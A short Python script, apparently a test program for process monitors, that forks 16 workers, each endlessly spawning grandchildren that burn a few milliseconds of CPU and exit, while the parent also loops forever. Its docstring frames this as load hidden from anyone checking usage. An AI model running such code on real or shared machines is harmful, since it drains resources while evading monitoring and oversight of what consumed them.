"""Starts processes that end before anybody asks what they have used, and others behind them, without end."""

import os
import time


def compute(seconds):
    end = time.process_time() + seconds
    while time.process_time() < end:
        pass


for _ in range(16):
    if os.fork() == 0:
        while True:
            if os.fork() == 0:
                compute(0.004)
                os._exit(0)
            os.wait()
while True:
    compute(0.001)
    time.sleep(0.01)
